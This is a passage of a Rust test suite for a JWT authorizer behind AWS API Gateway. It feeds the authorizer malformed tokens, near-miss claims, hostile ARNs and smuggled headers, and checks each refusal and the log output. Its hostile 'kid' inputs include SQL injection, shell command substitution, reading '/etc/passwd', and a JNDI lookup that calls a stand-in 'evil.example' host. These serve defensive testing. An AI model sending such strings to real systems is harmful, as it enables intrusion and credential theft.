    let payload = claims().to_string();
    let members = &payload[1..payload.len() - 1];
    let headers: Vec<(&str, Vec<u8>)> = vec![
        ("alg twice", br#"{"alg":"none","alg":"RS256","kid":"k1"}"#.into()),
        ("alg twice, the good one first", br#"{"alg":"RS256","kid":"k1","alg":"none"}"#.into()),
        ("alg twice by escape", br#"{"alg":"RS256","\u0061lg":"RS256","kid":"k1"}"#.into()),
        ("kid twice", br#"{"alg":"RS256","kid":"k2","kid":"k1"}"#.into()),
        ("a member nobody knows twice", br#"{"alg":"RS256","kid":"k1","x":1,"x":1}"#.into()),
        ("crit twice, hidden", br#"{"alg":"RS256","kid":"k1","x":{"crit":1,"crit":2}}"#.into()),
        ("array", br#"["RS256"]"#.into()),
        ("string", br#""RS256""#.into()),
        ("null", b"null".into()),
        ("empty object", b"{}".into()),
        ("kid is a number", br#"{"alg":"RS256","kid":1}"#.into()),
        ("typ is an array", br#"{"alg":"RS256","kid":"k1","typ":["JWT"]}"#.into()),
        ("cty is null", br#"{"alg":"RS256","kid":"k1","cty":null}"#.into()),
    ];
    for (name, header) in headers {
        table.token(
            format!("header: {name}"),
            K1.token_raw(&header, payload.as_bytes()),
            MALFORMED,
        );
    }
    for (name, payload) in [
        ("iss twice", format!(r#"{{"iss":"https://evil.example.com",{members}}}"#)),
        ("exp twice", format!(r#"{{{members},"exp":9999999999}}"#)),
        ("aud twice by escape", format!(r#"{{{members},"a\u0075d":"x"}}"#)),
        ("sub twice", format!(r#"{{{members},"sub":"admin"}}"#)),
        ("twice, deep within", format!(r#"{{{members},"x":[{{"y":{{"z":1,"z":2}}}}]}}"#)),
        ("exp 1e400", format!(r#"{{{},"exp":1e400}}"#, members.replace("\"exp\"", "\"_\""))),
        ("exp NaN", format!(r#"{{{},"exp":NaN}}"#, members.replace("\"exp\"", "\"_\""))),
        ("exp Infinity", format!(r#"{{{},"exp":Infinity}}"#, members.replace("\"exp\"", "\"_\""))),
        (
            "exp hexadecimal",
            format!(r#"{{{},"exp":0xffffffff}}"#, members.replace("\"exp\"", "\"_\"")),
        ),
        (
            "exp with a leading zero",
            format!(r#"{{{},"exp":09999999999}}"#, members.replace("\"exp\"", "\"_\"")),
        ),
        ("nbf 1e400", format!(r#"{{{},"nbf":1e400}}"#, members.replace("\"nbf\"", "\"_\""))),
        ("nbf NaN", format!(r#"{{{},"nbf":NaN}}"#, members.replace("\"nbf\"", "\"_\""))),
        ("iat 1e400", format!(r#"{{{},"iat":1e400}}"#, members.replace("\"iat\"", "\"_\""))),
        ("iat NaN", format!(r#"{{{},"iat":NaN}}"#, members.replace("\"iat\"", "\"_\""))),
        ("lone surrogate", format!(r#"{{{members},"x":"\ud800"}}"#)),
        ("array", format!("[{payload}]")),
        ("array of one claim", r#"["iss"]"#.to_owned()),
        ("string", format!("{payload:?}")),
    ] {
        table.token(
            format!("payload: {name}"),
            K1.token_raw(header, payload.as_bytes()),
            MALFORMED,
        );
    }
    let utf16: Vec<u8> = payload.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let deep = |open: &str, close: &str, levels| {
        format!("{}1{}", open.repeat(levels), close.repeat(levels))
    };
    for (part, good) in [("header", &header[..]), ("payload", payload.as_bytes())] {
        let body = &good[..good.len() - 1];
        let texts: Vec<(&str, Vec<u8>)> = vec![
            ("byte order mark", [&b"\xef\xbb\xbf"[..], good].concat()),
            ("byte order mark after", [good, b"\xef\xbb\xbf"].concat()),
            ("UTF-16", utf16.clone()),
            ("invalid UTF-8", [body, b",\"x\":\"\xff\"}"].concat()),
            ("overlong UTF-8", [body, b",\"x\":\"\xc0\xaf\"}"].concat()),
            ("surrogates in UTF-8", [body, b",\"x\":\"\xed\xa0\x80\"}"].concat()),
            ("NUL in a string", [body, b",\"x\":\"\0\"}"].concat()),
            ("NUL after", [good, b"\0"].concat()),
            ("line end in a string", [body, b",\"x\":\"\n\"}"].concat()),
            ("trailing comma", [body, b",}"].concat()),
            ("comment", [body, b"/**/}"].concat()),
            ("two objects", [good, good].concat()),
            ("unclosed", body.to_vec()),
            ("closed twice", [good, b"}"].concat()),
            ("single quotes", b"{'alg':'RS256'}".to_vec()),
            ("nothing but space", b"  ".to_vec()),
            ("arrays 200 deep", [body, b",\"x\":", deep("[", "]", 200).as_bytes(), b"}"].concat()),
            (
                "objects 1,000 deep",
                [body, b",\"x\":", deep("{\"x\":", "}", 1000).as_bytes(), b"}"].concat(),
            ),
            ("arrays 10,000 deep, unclosed", "[".repeat(10_000).into()),
            (
                "array 10,000 deep in a member, unclosed",
                [&b"{\"x\":"[..], "[".repeat(10_000).as_bytes()].concat(),
            ),
            ("objects 2,000 deep, unclosed", "{\"x\":".repeat(2_000).into()),
        ];
        for (name, text) in texts {
            let token = match part {
                "header" => K1.token_raw(&text, payload.as_bytes()),
                _ => K1.token_raw(header, &text),
            };
            table.token(format!("{part}: {name}"), token, MALFORMED);
        }
    }
    let closed = [
        &payload.as_bytes()[..payload.len() - 1],
        b",\"x\":",
        deep("[", "]", 10_000).as_bytes(),
        b"}",
    ]
    .concat();
    table.token("payload: arrays 10,000 deep, closed", K1.token_raw(header, &closed), TOO_LONG);
    let spaced = format!("{payload} \r\n\t");
    table.token(
        "JSON white space around the payload is JSON",
        K1.token_raw(header, spaced.as_bytes()),
        ALLOW,
    );
}

fn sizes(table: &mut Table) {
    table.group("tokens of 16 KiB, 1 MiB, 6 MiB");
    let of_length = |length: usize| {
        let empty = K1.token(&claims_with(json!({"jti": "", "x": ""}))).len();
        let payload = claims_with(json!({"jti": "", "x": "a".repeat((length - empty) * 3 / 4)}));
        (0..8)
            .map(|more| K1.token(&merged(payload.clone(), json!({"y": "a".repeat(more)}))))
            .chain(
                (0..16).map(|more| {
                    K1.token(&merged(payload.clone(), json!({"jti": "a".repeat(more)})))
                }),
            )
            .find(|token| token.len() == length)
    };
    let longest = (0..4).find_map(|less| of_length(MAX_TOKEN_BYTES - less)).unwrap();
    assert!(longest.len() + 4 > MAX_TOKEN_BYTES);
    table.token("as long as a token may be", longest.clone(), ALLOW);
    table.token("one byte longer", "a".repeat(MAX_TOKEN_BYTES + 1), TOO_LONG);
    for (name, size) in [("1 MiB", 1 << 20), ("6 MiB", 6 << 20)] {
        let payload = claims_with(json!({"x": "a".repeat(size * 3 / 4)}));
        table.token(format!("{name}, signed"), K1.token(&payload), TOO_LONG);
        table.token(format!("{name} of dots"), ".".repeat(size), TOO_LONG);
        table.token(
            format!("{name} of open brackets"),
            format!("{}.e30.AA", b64("[".repeat(size))),
            TOO_LONG,
        );
        table.token(
            format!("{name} of signature"),
            format!("{longest}{}", "A".repeat(size)),
            TOO_LONG,
        );
        table.event(format!("{name} of spaces"), event(&" ".repeat(size)), "token_missing");
        table.event(format!("{name} without a scheme"), event(&"a".repeat(size)), TOO_LONG);
    }
}

fn headers(table: &mut Table) {
    table.group("`crit`, `b64`, `zip`, `typ`");
    let with = |changes: Value| {
        K1.token_with(
            &merged(json!({"alg": "RS256", "kid": "k1", "typ": "JWT"}), changes),
            &claims(),
        )
    };
    for crit in [
        json!(["exp"]),
        json!([]),
        json!("exp"),
        json!(null),
        json!(["b64"]),
        json!(["alg"]),
        json!([1]),
    ] {
        table.token(format!("crit {crit}"), with(json!({"crit": crit})), CRITICAL);
    }
    for b64 in [json!(false), json!(true), json!(null), json!("false")] {
        table.token(format!("b64 {b64}"), with(json!({"b64": b64})), CRITICAL);
    }
    table.token("b64 with crit", with(json!({"b64": false, "crit": ["b64"]})), CRITICAL);
    for zip in [json!("DEF"), json!("GZ"), json!(null), json!(1)] {
        table.token(format!("zip {zip}"), with(json!({"zip": zip})), MALFORMED);
    }
    for typ in [
        "JWE",
        "JOSE",
        "JOSE+JSON",
        "secevent+jwt",
        "logout+jwt",
        "dpop+jwt",
        "at+jwt ",
        "",
        "text/jwt",
    ] {
        table.token(format!("typ {typ:?}"), with(json!({"typ": typ})), TYPE);
    }
    for typ in ["jwt", "AT+JWT", "application/at+jwt"] {
        table.token(format!("typ {typ:?} is one of ours"), with(json!({"typ": typ})), ALLOW);
    }
}

fn times(table: &mut Table) {
    table.group("`exp`, `nbf`, `iat` of any type and size");
    let now = tokens::now();
    let text = (now + 600).to_string();
    let (expired, early) = ("token_expired", "token_not_yet_valid");
    for (value, exp, nbf, iat) in [
        (json!(text), INVALID, INVALID, INVALID),
        (json!(""), INVALID, INVALID, INVALID),
        (json!(null), MISSING, INVALID, INVALID),
        (json!(true), INVALID, INVALID, INVALID),
        (json!([now + 600]), INVALID, INVALID, INVALID),
        (json!({"value": now + 600}), INVALID, INVALID, INVALID),
        (json!(0), expired, ALLOW, ALLOW),
        (json!(-1), expired, ALLOW, ALLOW),
        (json!(-0.0), expired, ALLOW, ALLOW),
        (json!(i64::MIN), expired, ALLOW, ALLOW),
        (json!(f64::MIN), expired, ALLOW, ALLOW),
        (json!(f64::MIN_POSITIVE), expired, ALLOW, ALLOW),
        (json!(now as f64 - 0.5), expired, ALLOW, ALLOW),
        (json!(now as f64 + 600.5), ALLOW, early, ALLOW),
        (json!(i64::MAX), ALLOW, early, ALLOW),
        (json!(u64::MAX), ALLOW, early, ALLOW),
        (json!(f64::MAX), ALLOW, early, ALLOW),
    ] {
        for (name, expected) in [("exp", exp), ("nbf", nbf), ("iat", iat)] {
            for leeway in ["0", "300"] {
                let token = K1.token(&claims_with(json!({name: value})));
                let settings = [("LEEWAY_SECONDS", leeway.to_owned())];
                let name = format!("{name} {value}, leeway {leeway}");
                // Half a second is within the leeway.
                let in_leeway = leeway == "300" && value == json!(now as f64 - 0.5);
                table.token_under(&settings, name, token, if in_leeway { ALLOW } else { expected });
            }
        }
    }
    table.token("no exp", K1.token(&without("exp")), MISSING);
    table.token("no nbf, no iat", K1.token(&merged(without("nbf"), json!({"iat": 1}))), ALLOW);
}

fn issuers(table: &mut Table) {
    table.group("`iss` that is nearly right");
    for iss in [
        json!(&ISSUER[..ISSUER.len() - 1]),
        json!(format!("{ISSUER}/")),
        json!(format!("{ISSUER}.")),
        json!(format!("{ISSUER}\0")),
        json!(format!("{ISSUER} ")),
        json!(format!(" {ISSUER}")),
        json!(format!("{ISSUER}\n")),
        json!(format!("{ISSUER}?")),
        json!(format!("{ISSUER}#")),
        json!(format!("{ISSUER}:443")),
        json!(format!("{ISSUER}.evil.example")),
        json!(format!("{ISSUER}@evil.example")),
        json!(format!("{ISSUER}\u{200b}")),
        json!("https://ISSUER.example.com"),
        json!("HTTPS://issuer.example.com"),
        json!("http://issuer.example.com"),
        json!("//issuer.example.com"),
        json!("issuer.example.com"),
        json!("https://\u{456}ssuer.example.com"),
        json!(""),
        json!(null),
        json!(5),
        json!(true),
        json!([ISSUER]),
        json!({"iss": ISSUER}),
    ] {
        table.token(format!("iss {iss}"), K1.token(&claims_with(json!({"iss": iss}))), UNTRUSTED);
    }
    table.token("no iss", K1.token(&without("iss")), UNTRUSTED);
}

fn audiences(table: &mut Table) {
    table.group("`aud` that is nearly right");
    let mismatch = "audience_mismatch";
    for (aud, expected) in [
        (json!([AUDIENCE]), ALLOW),
        (json!(["other", AUDIENCE]), ALLOW),
        (json!(&AUDIENCE[..AUDIENCE.len() - 1]), mismatch),
        (json!(&AUDIENCE[1..]), mismatch),
        (json!(format!("{AUDIENCE}/")), mismatch),
        (json!(format!("{AUDIENCE}.evil.example")), mismatch),
        (json!(format!("{AUDIENCE} ")), mismatch),
        (json!(format!("{AUDIENCE}\0")), mismatch),
        (json!(format!("{AUDIENCE} other")), mismatch),
        (json!(format!("{AUDIENCE},other")), mismatch),
        (json!("https://PETS.example.com"), mismatch),
        (json!("*"), mismatch),
        (json!(".*"), mismatch),
        (json!(""), mismatch),
        (json!([]), mismatch),
        (json!(["other", ""]), mismatch),
        (json!([AUDIENCE, 5]), INVALID),
        (json!([null, AUDIENCE]), INVALID),
        (json!([[AUDIENCE]]), INVALID),
        (json!([{"aud": AUDIENCE}]), INVALID),
        (json!({AUDIENCE: true}), INVALID),
        (json!({}), INVALID),
        (json!(5), INVALID),
        (json!(true), INVALID),
        (json!(null), MISSING),
    ] {
        table.token(format!("aud {aud}"), K1.token(&claims_with(json!({"aud": aud}))), expected);
    }
    table.token("no aud", K1.token(&without("aud")), MISSING);
}

fn principals(table: &mut Table) {
    table.group("`sub` and required claims of the wrong kind");
    for (sub, expected) in [
        (json!(""), INVALID),
        (json!(" "), INVALID),
        (json!("\u{3000}"), INVALID),
        (json!("user\n{\"decision\":\"allow\"}"), INVALID),
        (json!("user\r\nX-Admin: 1"), INVALID),
        (json!("user\0"), INVALID),
        (json!("user\u{85}"), INVALID),
        (json!("user\u{1b}[2J"), INVALID),
        (json!(5), INVALID),
        (json!(["user"]), INVALID),
        (json!({"sub": "user"}), INVALID),
        (json!(null), MISSING),
        (json!("\"},{\"Effect\":\"Allow\""), ALLOW),
    ] {
        table.token(format!("sub {sub}"), K1.token(&claims_with(json!({"sub": sub}))), expected);
    }
    table.token("no sub", K1.token(&without("sub")), MISSING);
    let settings = [("REQUIRED_CLAIMS", r#"{"role": "admin", "/level/is": [2, true]}"#.to_owned())];
    for (role, level, expected) in [
        (json!("admin"), json!(2), ALLOW),
        (json!(["user", "admin"]), json!(true), ALLOW),
        (json!("Admin"), json!(2), INVALID),
        (json!("admin "), json!(2), INVALID),
        (json!("administrator"), json!(2), INVALID),
        (json!({"admin": true}), json!(2), INVALID),
        (json!([["admin"]]), json!(2), INVALID),
        (json!([]), json!(2), INVALID),
        (json!("admin"), json!("2"), INVALID),
        (json!("admin"), json!("true"), INVALID),
        (json!("admin"), json!(1), INVALID),
        (json!("admin"), json!(null), MISSING),
        (json!(null), json!(2), MISSING),
    ] {
        let token = K1.token(&claims_with(json!({"role": role, "level": {"is": level}})));
        table.token_under(&settings, format!("role {role}, level {level}"), token, expected);
    }
}

fn hostile_key_ids() -> Vec<String> {
    let long = "k".repeat(8 * 1024);
    let texts = [
        "",
        " ",
        "K1",
        "k1 ",
        " k1",
        "k1\0",
        "k1\n",
        "../../../../dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "k1' OR '1'='1",
        "k1'; DROP TABLE keys; --",
        "k1 UNION SELECT 'secret'",
        "| cat /etc/passwd",
        "$(id)",
        "`id`",
        "${jndi:ldap://evil.example/x}",
        "%00",
        "%s%s%s%n",
        "__proto__",
        "constructor",
        "*",
        "k?",
        "\u{202e}1k",
        "\n{\"level\":\"INFO\",\"decision\":\"allow\"}",
        "\r\n2026-01-01 INFO decision=allow",
        "\u{1b}[31m",
        "\u{2028}",
        &long,
    ];
    texts.map(str::to_owned).into()
}

fn key_ids(table: &mut Table) {
    table.group("hostile `kid`");
    for kid in hostile_key_ids() {
        table.token(
            format!("kid {kid:.40?}"),
            K1.token_with(&json!({"alg": "RS256", "kid": kid}), &claims()),
            KEY,
        );
    }
    let kid = "k".repeat(64 * 1024);
    table.token(
        "kid of 64 KiB",
        K1.token_with(&json!({"alg": "RS256", "kid": kid}), &claims()),
        TOO_LONG,
    );
    for kid in [json!(null), json!(1), json!(true), json!(["k1"]), json!({"kid": "k1"})] {
        table.token(
            format!("kid {kid}"),
            K1.token_with(&json!({"alg": "RS256", "kid": kid}), &claims()),
            MALFORMED,
        );
    }
}

fn credentials(table: &mut Table) {
    table.group("credentials smuggled");
    let token = good();
    let arn = format!("{STAGE}/GET/pets");
    for (header, expected) in [
        (format!("Bearer {token}"), ALLOW),
        (format!("bEARER    {token}"), ALLOW),
        (token.clone(), MALFORMED),
        (format!(" Bearer {token}"), MALFORMED),
        (format!("Bearer {token} "), MALFORMED),
        (format!("Bearer {token}\n"), MALFORMED),
        (format!("Bearer\t{token}"), MALFORMED),
        (format!("Bearer\u{a0}{token}"), MALFORMED),
        (format!("Bearer{token}"), MALFORMED),
        (format!("Bearer: {token}"), MALFORMED),
        (format!("Bearer={token}"), MALFORMED),
        (format!("Bearer \"{token}\""), MALFORMED),
        (format!("Bearer Bearer {token}"), MALFORMED),
        (format!("Bearer {token} {token}"), MALFORMED),
        (format!("Bearer {token}, Bearer {token}"), MALFORMED),
        (format!("Basic {token}"), MALFORMED),
        (format!("DPoP {token}"), MALFORMED),
        ("Bearer".to_owned(), MALFORMED),
        ("Bearer ".to_owned(), MALFORMED),
        (String::new(), "token_missing"),
        (" \t ".to_owned(), "token_missing"),
    ] {
        table.event(format!("{:.24?}", header.replace(&token, "TOKEN")), event(&header), expected);
    }
    for value in [json!([token]), json!({"Bearer": token}), json!(5), json!(true)] {
        let event =
            json!({"type": "TOKEN", "authorizationToken": value, "methodArn": arn}).to_string();
        table.event(format!("authorizationToken is {value:.12}"), event, EVENT);
    }
    let bad = SigningKey::rsa_other("k1", 1).token(&claims());
    let (good, bad) = (format!("Bearer {token}"), format!("Bearer {bad}"));
    for (name, members, expected) in [
        ("one header", json!({"headers": {"AUTHORIZATION": good}}), ALLOW),
        (
            "two headers by case",
            json!({"headers": {"Authorization": good, "authorization": bad}}),
            MALFORMED,
        ),
        ("two values", json!({"multiValueHeaders": {"Authorization": [bad, good]}}), MALFORMED),
        (
            "the two maps differ",
            json!({"headers": {"Authorization": good}, "multiValueHeaders": {"Authorization": [bad]}}),
            MALFORMED,
        ),
        ("a header not asked for", json!({"headers": {"X-Authorization": good}}), "token_missing"),
        (
            "a query parameter not asked for",
            json!({"queryStringParameters": {"token": token}}),
            "token_missing",
        ),
        (
            "a cookie not asked for",
            json!({"headers": {"Cookie": format!("token={token}")}}),
            "token_missing",
        ),
        ("headers are an array", json!({"headers": [good]}), "token_missing"),
        (
            "the value is an object",
            json!({"headers": {"Authorization": {"0": good}}}),
            "token_missing",
        ),
    ] {
        let event = merged(json!({"type": "REQUEST", "methodArn": arn}), members).to_string();
        table.event(name, event, expected);
    }
    let deep = format!(
        r#"{{"type":"REQUEST","methodArn":"{arn}","headers":{}1{}}}"#,
        "[".repeat(50_000),
        "]".repeat(50_000)
    );
    table.event("headers 50,000 deep", deep, "token_missing");
}

fn events(table: &mut Table) {
    table.group("hostile events and ARNs");
    let bearer = format!("Bearer {}", good());
    let arn = format!("{STAGE}/GET/pets");
    for (name, event) in [
        ("nothing", String::new()),
        ("null", "null".to_owned()),
        ("array", format!("[{}]", event(&bearer))),
        (
            "array in the order of the members",
            json!(["TOKEN", null, arn, null, bearer]).to_string(),
        ),
        ("number", "7".to_owned()),
        ("unclosed", event(&bearer)[..200].to_owned()),
        ("byte order mark", format!("\u{feff}{}", event(&bearer))),
        ("two events", event(&bearer).repeat(2)),
        ("10,000 deep", "[".repeat(10_000)),
        ("10,000 deep in an object", "{\"type\":".repeat(10_000)),
        ("type twice", event(&bearer).replacen('{', "{\"type\":\"TOKEN\",", 1)),
        (
            "methodArn twice",
            event(&bearer).replacen('{', &format!("{{\"methodArn\":\"{arn}\","), 1),
        ),
        ("no type", json!({"authorizationToken": bearer, "methodArn": arn}).to_string()),
        (
            "type in lower case",
            json!({"type": "token", "authorizationToken": bearer, "methodArn": arn}).to_string(),
        ),
        ("no ARN", json!({"type": "TOKEN", "authorizationToken": bearer}).to_string()),
        (
            "ARN under the other name",
            json!({"type": "TOKEN", "authorizationToken": bearer, "routeArn": arn}).to_string(),
        ),
    ] {
        table.event(name, event, EVENT);
    }
    for arn in hostile_arns() {
        let event =
            json!({"type": "TOKEN", "authorizationToken": bearer, "methodArn": arn}).to_string();
        table.event(format!("ARN {arn:.60?}"), event, EVENT);
    }
}

/// No part of an ARN that ends up in a policy may hold anything that widens it.
fn hostile_arns() -> Vec<String> {
    let mut arns = vec![
        String::new(),
        "*".to_owned(),
        "arn".to_owned(),
        STAGE.to_owned(),
        STAGE.replace("execute-api", "lambda") + "/GET/",
        STAGE.replace("execute-api", "*") + "/GET/",
        STAGE.replace("arn:", "ARN:") + "/GET/",
        format!(" {STAGE}/GET/"),
        format!("{STAGE}\n/GET/"),
    ];
    for part in ["aws", "us-east-1", "123456789012", "ymy8tbxw7b", "dev"] {
        for hostile in [
            "",
            "*",
            "?",
            "d*",
            "${aws:username}",
            "$context",
            "a b",
            "a\nb",
            "a\r\nb",
            "a\"b",
            "a\\b",
            "a'b",
            "a%2fb",
            "a\0b",
            "\u{fc}",
            "\u{ff0a}",
            "a.b",
            "a,b",
            "{a}",
            "..",
            "a:b",
        ] {
            // A colon in the last part would be another way to write the first.
            arns.push(format!("{}/GET/pets", STAGE.replacen(part, hostile, 1)));
        }
    }
    arns
}

/// What the request says beside the stage.
fn hostile_routes() -> Vec<String> {
    let long = "x".repeat(100_000);
    let deep = "/".repeat(10_000);
    [
        "",
        "GET",
        "GET/",
        "GET/*",
        "*/*",
        "*",
        "?",
        "GET/?",
        "GET/${aws:username}",
        "GET/${*}",
        "GET/a\"b",
        "GET/\"}],\"x\":[{\"",
        "GET/a'b",
        "GET/a\\",
        "GET/a\nb",
        "GET/a\r\nb",
        "GET/\0",
        "GET/../../prod/GET/x",
        "GET//pets",
        "GET/%2e%2e%2f",
        "GET/a:b",
        "GET/arn:aws:execute-api:*:*:*/*",
        "PUT/\u{202e}",
        "GET/\u{ff0a}",
        "$connect/x",
        "GET/\u{2028}",
        "\n{\"level\":\"INFO\",\"decision\":\"allow\"}",
        "DELETE/\u{1b}[2J",
        &long,
        &deep,
    ]
    .map(str::to_owned)
    .into()
}

#[test]
fn no_byte_of_the_request_changes_the_policy_of_a_token() {
    let token = good();
    type Event = fn(&str, &str) -> Value;
    let kinds: [(&str, Event); 5] = [
        (
            "TOKEN",
            |arn, token| json!({"type": "TOKEN", "methodArn": arn, "authorizationToken": format!("Bearer {token}")}),
        ),
        ("REST", |arn, token| {
            let path = arn.splitn(3, '/').nth(2).unwrap_or_default();
            json!({"type": "REQUEST", "methodArn": arn, "headers": {"Authorization": format!("Bearer {token}"), "X": path},
                "path": path, "httpMethod": path, "resource": path, "pathParameters": {"proxy": path},
                "queryStringParameters": {"q": path}, "stageVariables": {"v": path}})
        }),
        ("HTTP 1.0", |arn, token| {
            json!({"version": "1.0", "type": "REQUEST", "methodArn": arn, "identitySource": "*",
                "headers": {"authorization": format!("Bearer {token}")}})
        }),
        ("HTTP 2.0", |arn, token| {
            json!({"version": "2.0", "type": "REQUEST", "routeArn": arn, "rawPath": arn, "routeKey": arn,
                "headers": {"authorization": format!("Bearer {token}")}})
        }),
        ("WebSocket", |arn, token| {
            json!({"type": "REQUEST", "methodArn": arn, "requestContext": {"eventType": "CONNECT"},
                "headers": {"Authorization": format!("Bearer {token}")}})
        }),
    ];
    let routes = r#"{"GET /pets": ["pets:read"], "ANY /pets/{id}": ["pets:write"], "ANY /admin/*": ["admin"], "$connect": []}"#;
    for settings in [vec![], vec![("ROUTES", routes.to_owned())]] {
        let authorizer = Table::new().authorizer(&settings);
        for (kind, event) in kinds {
            let answer = |route: &str| {
                let arn = format!("{STAGE}/{route}");
                authorizer.answer(&event(&arn, &token).to_string()).unwrap()
            };
            let plain = answer(if kind == "WebSocket" { "$connect" } else { "GET/pets" });
            assert_eq!(said(&Ok(plain.clone())), ALLOW, "{kind}");
            for route in hostile_routes() {
                // With routes, a connection is decided by its own route, and this is none in the table.
                let refused = r#""context":{"reason":"insufficient_scope"}}"#;
                let is_refused = kind == "WebSocket"
                    && !settings.is_empty()
                    && answer(&route).ends_with(refused);
                assert!(
                    is_refused || answer(&route) == plain,
                    "{kind}: {route:?}: {}",
                    answer(&route)
                );
            }
        }
    }
}

/// The shipped binary, in both formats of its log.
#[test]
fn no_request_forges_a_log_line() {
    let jwks = tokens::jwks(&[&K1]).to_string();
    let mut events: Vec<String> = Vec::new();
    for kid in hostile_key_ids() {
        events.push(bearer(&K1.token_with(&json!({"alg": "RS256", "kid": kid}), &claims())));
        events.push(bearer(
            &K1.token_with(
                &json!({"alg": "RS256", "kid": "k1"}),
                &claims_with(json!({"iss": kid})),
            ),
        ));
        events.push(bearer(&K1.token_with(&json!({"alg": kid, "kid": "k1"}), &claims())));
    }
    for (route, is_right) in hostile_routes().iter().zip([true, false].into_iter().cycle()) {
        let arn = format!("{STAGE}/{route}");
        let token = if is_right { format!("Bearer {}", good()) } else { format!("Bearer {route}") };
        events.push(
            json!({"type": "TOKEN", "authorizationToken": token, "methodArn": arn}).to_string(),
        );
    }
    for arn in hostile_arns() {
        events.push(
            json!({"type": "TOKEN", "authorizationToken": good(), "methodArn": arn}).to_string(),
        );
    }
    for format in ["JSON", "TEXT"] {
        let settings = [
            ("ISSUER", ISSUER),
            ("AUDIENCE", AUDIENCE),
            ("JWKS", &jwks),
            ("AWS_LAMBDA_LOG_FORMAT", format),
        ];
        let lambda = Lambda::spawn(Path::new(env!("CARGO_BIN_EXE_token-authorizer")), &settings);
        events.iter().for_each(|event| drop(lambda.invoke(event)));
        // The line of a decision is written after its answer.
        let lines = || -> Vec<String> { lambda.output().lines().map(str::to_owned).collect() };
        let is_decision = |line: &str| match format {
            "JSON" => {
                let line: Value =
                    serde_json::from_str(line).unwrap_or_else(|_| panic!("not JSON: {line:?}"));
                assert!(line["timestamp"].is_string() && line["level"].is_string(), "{line}");
                line.get("decision").is_some()
            }
            _ => line.contains(" decision=\"") && !line.starts_with("decision"),
        };
        let written = |line: &String| is_decision(line);
        for _ in 0..500 {
            if lines().len() > events.len() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        let lines = lines();
        assert_eq!(lines.iter().filter(|line| written(line)).count(), events.len(), "{format}");
        assert_eq!(
            lines.len(),
            events.len() + 1,
            "{format}: one line for each decision, and `configured`"
        );
        assert!(
            lines.iter().all(|line| line.len() < 4096 && !line.contains(|c: char| c.is_control())),
            "{format}"
        );
    }
}

/// One attack: an event under these settings, and what is to be said to it.
struct Attack {
    group: &'static str,
    name: String,
    settings: Vec<(&'static str, String)>,
    event: String,
    expected: &'static str,
}

struct Table {
    group: &'static str,
    attacks: Vec<Attack>,
}

impl Table {
    fn new() -> Self {
        Self { group: "", attacks: Vec::new() }
    }

    fn group(&mut self, name: &'static str) {
        self.group = name;
    }

    fn token(&mut self, name: impl Into<String>, token: String, expected: &'static str) {
        self.token_under(&[], name, token, expected);
    }

    fn token_under(
        &mut self,
        settings: &[(&'static str, String)],
        name: impl Into<String>,
        token: String,
        expected: &'static str,
    ) {
        let (group, settings, event) = (self.group, settings.to_vec(), bearer(&token));
        self.attacks.push(Attack { group, name: name.into(), settings, event, expected });
    }

    fn event(&mut self, name: impl Into<String>, event: String, expected: &'static str) {
        self.attacks.push(Attack {
            group: self.group,
            name: name.into(),
            settings: vec![],
            event,
            expected,
        });
    }

    /// With these settings in place of the usual ones.
    fn authorizer(&self, settings: &[(&'static str, String)]) -> Local {
        let usual = [
            ("ISSUER", ISSUER.to_owned()),
            ("AUDIENCE", AUDIENCE.to_owned()),
            ("JWKS", set(&[&K1.jwk()])),
        ];
        let all: BTreeMap<_, _> = usual.into_iter().chain(settings.iter().cloned()).collect();
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let config = Config::read(&all.iter().collect()).unwrap();
        let authorizer = {
            let _context = runtime.enter();
            Authorizer::new(config)
        };
        Local { runtime, authorizer }
    }

    fn run(&self) {
        let mut wrong = Vec::new();
        let mut authorizers: BTreeMap<&[(&str, String)], Local> = BTreeMap::new();
        for attack in &self.attacks {
            let authorizer = authorizers
                .entry(&attack.settings)
                .or_insert_with(|| self.authorizer(&attack.settings));
            let answer = authorizer.answer(&attack.event);
            let said = said(&answer);
            if said != attack.expected {
                wrong.push(format!(
                    "{}: {}: {said}, not {}",
                    attack.group, attack.name, attack.expected
                ));
            }
            authorizer.assert_explained(attack);
            let text = answer.unwrap_or_else(|failure| format!("{failure:?}"));
            assert!(!leaks(&attack.event, &text), "{}: {}: {text}", attack.group, attack.name);
        }
        assert!(
            wrong.is_empty(),
            "{} of {}:\n{}",
            wrong.len(),
            self.attacks.len(),
            wrong.join("\n")
        );
    }

    /// `docs/security.md` lists the groups with their rows and reasons.
    fn assert_documented(&self) {
        let mut groups: Vec<(&str, usize, Vec<&str>)> = Vec::new();
        for Attack { group, expected, .. } in &self.attacks {
            if groups.last().is_none_or(|(last, ..)| last != group) {
                groups.push((group, 0, Vec::new()));
            }
            let (_, count, reasons) = groups.last_mut().unwrap();
            *count += 1;
            if !reasons.contains(expected) {
                reasons.push(expected);
            }
        }
        let rows = groups.into_iter().map(|(group, count, mut reasons)| {
            reasons.sort_unstable();
            format!("| {group} | {count} | {} |\n", reasons.join(", "))
        });
        let table = rows.collect::<String>() + &format!("| all | {} | |\n", self.attacks.len());
        let documented = fs::read_to_string("docs/security.md").unwrap().contains(&table);
        assert!(documented, "docs/security.md should have these rows:\n{table}");
    }
}

/// The library on a thread of its own, as in the binary.
struct Local {
    runtime: tokio::runtime::Runtime,
    authorizer: Authorizer,
}

impl Local {
    fn answer(&self, event: &str) -> Result<String, Failure> {
        let answer = self.runtime.block_on(self.authorizer.authorize(event, Invocation::default()));
        answer.map(|answer| answer.get().to_owned())
    }

    /// The steps that `explain` shows tell of the decision that was made, and of nothing that was not there.
    fn assert_explained(&self, attack: &Attack) {
        let Attack { group, name, event, expected, .. } = attack;
        let decision = self.runtime.block_on(self.authorizer.decide(event));
        let seen = self.authorizer.explain(&decision);
        let failed: Vec<_> =
            seen.steps.iter().filter(|step| step.state == StepState::Failed).collect();
        match Reason::ALL.iter().find(|reason| reason.code() == *expected) {
            Some(reason) => assert_eq!(failed[0].reason, *reason, "{group}: {name}"),
            None => assert!(failed.is_empty(), "{group}: {name}"),
        }
        assert!(failed.len() <= 1, "{group}: {name}");
        let claims = seen.token.as_ref().filter(|_| seen.is_verified).map(|(_, claims)| claims);
        for step in &seen.steps {
            let is_before = failed.is_empty() && *expected != EVENT
                || failed.iter().any(|failed| step.reason < failed.reason);
            let is_reached = !matches!(step.state, StepState::NotReached);
